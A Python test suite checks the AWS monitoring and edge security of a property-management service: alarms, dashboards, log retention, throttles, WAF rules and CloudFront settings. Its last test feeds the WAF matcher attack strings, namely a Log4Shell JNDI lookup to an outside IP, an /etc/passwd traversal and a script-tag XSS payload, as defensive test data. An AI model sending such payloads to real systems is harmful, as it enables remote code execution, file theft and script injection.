"""What operators get in the console: the staff dashboard (generated from the workflows),
and alarms that cover every function, table and failure queue, all sent to the alerts topic."""
import json
import re

import pytest

from butler.settings import Settings

from infra import dashboard
from infra.template import ROOT, functions, load_template, resources, routes, tables

TEMPLATE = load_template()
ALARMS = resources(TEMPLATE, "AWS::CloudWatch::Alarm")


def _in_template():
    (board,) = resources(TEMPLATE, "AWS::CloudWatch::Dashboard").values()
    return json.loads(board["Properties"]["DashboardBody"]["Fn::Sub"])


def test_the_dashboard_in_the_template_is_the_one_generated_from_the_workflows():
    assert _in_template() == dashboard.body(TEMPLATE), "run: python -m infra.dashboard --write"


def _emitted_metric_names():
    names = set()
    for path in (ROOT / "functions").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        names |= set(re.findall(r'add_metric\(\s*"(\w+)"', text))
        names |= set(re.findall(r'single_metric\(\s*name="(\w+)"', text))
    return names


def _lines(body):
    for widget in body["widgets"]:
        for line in widget.get("properties", {}).get("metrics", []):
            namespace, name, *rest = line
            yield namespace, name, dict(zip(rest[:-1:2], rest[1:-1:2]))


def test_every_custom_metric_on_the_dashboard_is_emitted_by_a_function_of_the_template():
    services = {spec.environment["POWERTOOLS_SERVICE_NAME"] for spec in functions(TEMPLATE)}
    emitted = _emitted_metric_names()
    custom = [(name, dims) for namespace, name, dims in _lines(_in_template()) if namespace == "PropertyButler"]

    assert {name for name, _ in custom} >= {"OpenWork", "OverdueWork", "RepairReported", "CaseFiled"}
    for name, dims in custom:
        assert name in emitted, name
        assert dims["service"] in services, dims


def test_the_dashboard_shows_every_function_and_every_failure_queue():
    shown = {dims.get("FunctionName") or dims.get("QueueName") for _, _, dims in _lines(_in_template())}

    for spec in functions(TEMPLATE):
        assert f"${{{spec.logical_id}}}" in shown, spec.logical_id
    assert dashboard.failure_queues(TEMPLATE)
    for queue in dashboard.failure_queues(TEMPLATE):
        assert f"${{{queue}.QueueName}}" in shown, queue


def _watched(alarm, namespace, metric, dimension):
    """The resources an alarm watches (``Ref`` targets), directly or inside metric math."""
    props = alarm["Properties"]
    stats = [m["MetricStat"]["Metric"] for m in props.get("Metrics", []) if "MetricStat" in m]
    if "MetricName" in props:
        stats.append(props)
    found = set()
    for stat in stats:
        if stat["Namespace"] == namespace and stat["MetricName"] == metric:
            for d in stat.get("Dimensions", []):
                if d["Name"] == dimension:
                    value = d["Value"]
                    found.add(value.get("Ref") or value.get("Fn::GetAtt", [None])[0])
    return found


def _watched_by_any(namespace, metric, dimension):
    return set().union(*(_watched(a, namespace, metric, dimension) for a in ALARMS.values()))


def test_every_function_has_an_alarm_on_errors_and_on_throttles():
    every = {spec.logical_id for spec in functions(TEMPLATE)}

    assert _watched_by_any("AWS/Lambda", "Errors", "FunctionName") == every
    assert _watched_by_any("AWS/Lambda", "Throttles", "FunctionName") == every


def test_every_table_has_an_alarm_on_read_and_write_throttles():
    every = set(tables(TEMPLATE))

    assert _watched_by_any("AWS/DynamoDB", "ReadThrottleEvents", "TableName") == every
    assert _watched_by_any("AWS/DynamoDB", "WriteThrottleEvents", "TableName") == every


def test_every_on_failure_queue_alarms_as_soon_as_it_holds_a_message():
    for queue in dashboard.failure_queues(TEMPLATE):
        (alarm,) = [a["Properties"] for a in ALARMS.values()
                    if queue in _watched(a, "AWS/SQS", "ApproximateNumberOfMessagesVisible", "QueueName")]
        assert alarm["Threshold"] == 1 and alarm["ComparisonOperator"] == "GreaterThanOrEqualToThreshold"


def test_api_errors_and_overdue_work_alarm():
    api = [a for a in ALARMS.values() if a["Properties"].get("MetricName") == "5XXError"]
    assert len(api) == 1 and api[0]["Properties"]["Threshold"] == 1
    overdue = [a for a in ALARMS.values() if _watched_by_kind(a)]
    assert len(overdue) == 1


def _watched_by_kind(alarm):
    return {d["Value"] for m in alarm["Properties"].get("Metrics", []) if "MetricStat" in m
            for d in m["MetricStat"]["Metric"]["Dimensions"]
            if m["MetricStat"]["Metric"]["MetricName"] == "OverdueWork" and d["Name"] == "Kind"} == {
        "repair", "complaint"}


def test_every_alarm_tells_staff_in_chinese_and_reaches_the_alerts_topic():
    assert len(ALARMS) >= 8
    for logical_id, alarm in ALARMS.items():
        props = alarm["Properties"]
        assert re.search(r"[\u4e00-\u9fff]", props["AlarmDescription"]), logical_id
        assert props["AlarmActions"] == [{"Ref": "AlertsTopic"}], logical_id
        assert props["OKActions"] == [{"Ref": "AlertsTopic"}], logical_id
        assert props["TreatMissingData"] == "notBreaching", logical_id


def test_the_alerts_topic_key_lets_alarms_and_the_alerting_functions_publish():
    key = TEMPLATE["Resources"]["AlertsKey"]["Properties"]
    assert key["EnableKeyRotation"] is True
    (alarms,) = [s for s in key["KeyPolicy"]["Statement"] if s.get("Principal", {}).get("Service") == "cloudwatch.amazonaws.com"]
    assert set(alarms["Action"]) == {"kms:Decrypt", "kms:GenerateDataKey"}
    for spec in functions(TEMPLATE):
        role = TEMPLATE["Resources"][spec.logical_id]["Properties"]["Role"]["Fn::GetAtt"][0]
        statements = [s for p in TEMPLATE["Resources"][role]["Properties"]["Policies"]
                      for s in p["PolicyDocument"]["Statement"]]
        publishes = any(s["Action"] == "sns:Publish" for s in statements)
        may_use_key = any(s["Resource"] == {"Fn::GetAtt": ["AlertsKey", "Arn"]} for s in statements)
        assert publishes == may_use_key, spec.logical_id


def test_every_function_logs_to_a_group_with_a_retention_period():
    groups = {json.dumps(r["Properties"]["LogGroupName"]): r["Properties"]
              for r in resources(TEMPLATE, "AWS::Logs::LogGroup").values()}
    for spec in functions(TEMPLATE):
        name = TEMPLATE["Resources"][spec.logical_id]["Properties"]["FunctionName"]["Fn::Sub"]
        group = groups[json.dumps({"Fn::Sub": f"/aws/lambda/{name}"})]
        assert group["RetentionInDays"] in (30, 90), spec.logical_id


def test_every_route_has_its_own_throttle_and_nothing_is_left_at_a_generous_default():
    (api,) = resources(TEMPLATE, "AWS::Serverless::Api").values()
    # "/~1api~1surveys" is "/" + the resource path with "/" escaped as "~1"; "/*" is every path.
    limits = {(m["ResourcePath"] if m["ResourcePath"] == "/*" else m["ResourcePath"][1:].replace("~1", "/"),
               m["HttpMethod"]): (m["ThrottlingRateLimit"], m["ThrottlingBurstLimit"])
              for m in api["Properties"]["MethodSettings"]}

    for route in routes(TEMPLATE):
        assert (route.path, route.method) in limits, route
    rate, burst = limits[("/*", "*")]
    assert rate <= 10 and burst <= 20  # a route added without its own line gets little
    assert limits[("/api/surveys", "POST")] == (5, 10)  # docs/surveys.md computes the odds of guessing a code from it


def test_the_web_acl_limits_each_client_on_cloudfront_and_answers_in_the_api_error_shape():
    waf = load_template(ROOT / "infra" / "waf.yaml")
    (acl,) = resources(waf, "AWS::WAFv2::WebACL").values()
    props = acl["Properties"]
    body = json.loads(props["CustomResponseBodies"]["too-many-requests"]["Content"])

    assert props["Scope"] == "CLOUDFRONT"
    assert body["error"]["code"] == "TOO_MANY_REQUESTS" and re.search(r"[\u4e00-\u9fff]", body["error"]["message"])
    rules = {rule["Name"]: rule for rule in props["Rules"] if "RateBasedStatement" in rule["Statement"]}
    assert set(rules) == {"site-per-client", "api-per-client", "survey-answers-per-client"}
    for rule in rules.values():
        statement = rule["Statement"]["RateBasedStatement"]
        assert statement["AggregateKeyType"] == "IP" and statement["EvaluationWindowSec"] == 300
        parameter = waf["Parameters"][statement["Limit"]["Ref"]]
        assert parameter["Default"] >= parameter["MinValue"] >= 10
    distribution = TEMPLATE["Resources"]["Distribution"]["Properties"]["DistributionConfig"]
    assert distribution["WebACLId"] == {"Fn::If": ["HasWebAcl", {"Ref": "WebAclArn"}, {"Ref": "AWS::NoValue"}]}


WAF = load_template(ROOT / "infra" / "waf.yaml")
(WEB_ACL,) = resources(WAF, "AWS::WAFv2::WebACL").values()
DISTRIBUTION = TEMPLATE["Resources"]["Distribution"]["Properties"]["DistributionConfig"]


def _blocks(value):
    """Every Block action anywhere in the web ACL (rule actions and managed rule overrides)."""
    if isinstance(value, dict):
        if "Block" in value:
            yield value["Block"]
        for item in value.values():
            yield from _blocks(item)
    elif isinstance(value, list):
        for item in value:
            yield from _blocks(item)


def test_every_waf_block_answers_with_a_stable_code_and_a_chinese_message():
    """CloudFront rewrites nothing (no custom error responses), so what WAF answers is what
    the page gets: on /api/* the API's own error shape."""
    bodies = WEB_ACL["Properties"]["CustomResponseBodies"]
    blocks = list(_blocks(WEB_ACL["Properties"]["Rules"]))

    assert len(blocks) > 30  # the rate rules, the size rule and each managed rule
    for block in blocks:
        response = block["CustomResponse"]
        body = bodies[response["CustomResponseBodyKey"]]
        assert re.search(r"[\u4e00-\u9fff]", body["Content"]), response
        if body["ContentType"] == "APPLICATION_JSON":
            error = json.loads(body["Content"])["error"]
            assert re.fullmatch(r"[A-Z_]+", error["code"]), response
    assert {block["CustomResponse"]["ResponseCode"] for block in blocks} == {403, 413, 429}


def _rule(name):
    (rule,) = [r for r in WEB_ACL["Properties"]["Rules"] if r["Name"] == name]
    return rule


def test_the_managed_rule_groups_fit_a_json_forms_api_and_spare_photo_uploads():
    common = _rule("aws-common-rule-set")["Statement"]["ManagedRuleGroupStatement"]
    known_bad = _rule("aws-known-bad-inputs")["Statement"]["ManagedRuleGroupStatement"]
    size = _rule("api-body-too-large")["Statement"]["AndStatement"]["Statements"][1]["SizeConstraintStatement"]

    assert (common["Name"], known_bad["Name"]) == ("AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet")
    overrides = {o["Name"]: o["ActionToUse"] for o in common["RuleActionOverrides"]}
    assert overrides["SizeRestrictions_BODY"] == {"Count": {}}  # the API takes bodies up to 16 KB
    assert WAF["Parameters"][size["Size"]["Ref"]]["Default"] == Settings().max_body_bytes
    assert size["FieldToMatch"]["Body"]["OversizeHandling"] == "MATCH"
    for group in (common, known_bad):
        excluded = group["ScopeDownStatement"]["NotStatement"]["Statement"]["ByteMatchStatement"]
        assert excluded["SearchString"] == "/photo-uploads/"  # image bytes go to S3, checked there
    assert "Log4JRCE_BODY" in {o["Name"] for o in known_bad["RuleActionOverrides"]}


def test_no_error_of_the_api_or_the_waf_is_rewritten_into_the_site_s_page():
    behaviours = {b["PathPattern"]: b for b in DISTRIBUTION["CacheBehaviors"]}
    (group,) = DISTRIBUTION["OriginGroups"]["Items"]
    origins = {o["Id"]: o for o in DISTRIBUTION["Origins"]}
    not_found = TEMPLATE["Resources"]["NotFoundBucket"]["Properties"]["WebsiteConfiguration"]

    assert "CustomErrorResponses" not in DISTRIBUTION  # they would apply to /api/* too
    assert behaviours["/api/*"]["TargetOriginId"] == "api"
    assert DISTRIBUTION["DefaultCacheBehavior"]["TargetOriginId"] == group["Id"]
    assert [m["OriginId"] for m in group["Members"]["Items"]] == ["site", "not-found"]
    assert set(group["FailoverCriteria"]["StatusCodes"]["Items"]) == {403, 404}
    assert "S3OriginConfig" in origins["site"] and "CustomOriginConfig" in origins["not-found"]
    assert not_found == {"IndexDocument": "404.html", "ErrorDocument": "404.html"}


def test_deploy_refuses_a_stack_without_waf_unless_asked():
    from infra.publish import NO_WAF, edge_parameters

    with pytest.raises(SystemExit) as refused:
        edge_parameters({"WebAclArn": "", "LogsBucketDomain": "logs.s3.amazonaws.com"}, allow_no_waf=False)
    assert str(refused.value) == NO_WAF and "ALLOW_NO_WAF=1" in NO_WAF
    assert edge_parameters({"WebAclArn": "", "LogsBucketDomain": "l.s3.amazonaws.com"}, allow_no_waf=True) == [
        "WebAclArn=", "CloudFrontLogsBucket=l.s3.amazonaws.com"]
    arn = "arn:aws:wafv2:us-east-1:123456789012:global/webacl/butler-waf/1"
    assert edge_parameters({"WebAclArn": arn, "LogsBucketDomain": "l.s3.amazonaws.com"}, allow_no_waf=False)[0] == \
        f"WebAclArn={arn}"
    recipe = (ROOT / "Makefile").read_text(encoding="utf-8").split("\ndeploy:", 1)[1].split("\n\n", 1)[0]
    assert "--edge-parameters" in recipe and "ALLOW_NO_WAF=$(ALLOW_NO_WAF)" in recipe
    assert "WebAclArn=" not in recipe  # only infra.publish decides it


def test_api_access_logs_are_json_without_paths_queries_headers_or_tokens():
    (api,) = resources(TEMPLATE, "AWS::Serverless::Api").values()
    setting = api["Properties"]["AccessLogSetting"]
    line = json.loads(setting["Format"])  # one JSON object per request
    group = TEMPLATE["Resources"][setting["DestinationArn"]["Fn::GetAtt"][0]]["Properties"]

    assert set(line.values()) >= {"$context.resourcePath", "$context.status", "$context.requestId"}
    for forbidden in ("$context.path", "querystring", "$input", "header", "authorizer", "$context.identity.user"):
        assert forbidden not in setting["Format"], forbidden
    assert 1 <= group["RetentionInDays"] <= 90 and group["KmsKeyId"] == {"Fn::GetAtt": ["LogsKey", "Arn"]}
    account = TEMPLATE["Resources"]["ApiGatewayAccount"]["Properties"]
    assert account["CloudWatchRoleArn"] == {"Fn::GetAtt": ["ApiGatewayLogsRole", "Arn"]}


def test_cloudfront_logs_go_to_an_expiring_encrypted_bucket_without_cookies_and_tls_is_pinned():
    logging = DISTRIBUTION["Logging"]["Fn::If"]
    bucket = WAF["Resources"]["LogsBucket"]["Properties"]
    (expiry,) = [r for r in bucket["LifecycleConfiguration"]["Rules"] if "ExpirationInDays" in r]
    custom, default = DISTRIBUTION["ViewerCertificate"]["Fn::If"][1:]

    assert logging[0] == "HasCloudFrontLogs" and logging[1]["IncludeCookies"] is False
    assert WAF["Parameters"][expiry["ExpirationInDays"]["Ref"]]["Default"] <= 400
    assert bucket["BucketEncryption"]["ServerSideEncryptionConfiguration"][0]["ServerSideEncryptionByDefault"]
    assert bucket["OwnershipControls"]["Rules"] == [{"ObjectOwnership": "BucketOwnerPreferred"}]
    assert all(bucket["PublicAccessBlockConfiguration"].values())
    assert custom["MinimumProtocolVersion"] == "TLSv1.2_2021" and custom["SslSupportMethod"] == "sni-only"
    assert default == {"CloudFrontDefaultCertificate": True}  # CloudFront then allows TLSv1 whatever is set


def test_no_valid_request_trips_a_waf_condition_that_can_be_checked_offline():
    """Generated bodies (what the fuzz run sends), each body at its largest and resident
    submissions, as the site sends them; docs/operations.md has the full run's figures."""
    from infra import waf_rules

    corpora = {"schemathesis": waf_rules.schemathesis_requests(10), "largest": waf_rules.largest_bodies(),
               "residents": waf_rules.resident_submissions(300)}

    assert all(corpora.values()) and len(corpora["largest"]) >= 8
    assert {name: dict(counts) for name, counts in waf_rules.measure(corpora).items()} == {
        name: {} for name in corpora}


@pytest.mark.parametrize("request_, rule", [
    ({"body": {"description": "${jndi:ldap://203.0.113.9/a}"}}, "Log4JRCE_*"),
    ({"body": {"location": "../../etc/passwd"}}, "GenericLFI_*"),
    ({"body": {"description": "<script>alert(1)</script>"}}, "CrossSiteScripting_*"),
    ({"body": {"description": "修" * 6000}}, "api-body-too-large"),
    ({"headers": {"User-Agent": ""}}, "NoUserAgent_HEADER"),
])
def test_the_offline_waf_conditions_do_match_what_they_describe(request_, rule):
    from infra import waf_rules

    request = waf_rules._json_request("POST", "/api/repairs", request_.get("body", {}), request_.get("headers"))

    assert rule in waf_rules.tripped(request)
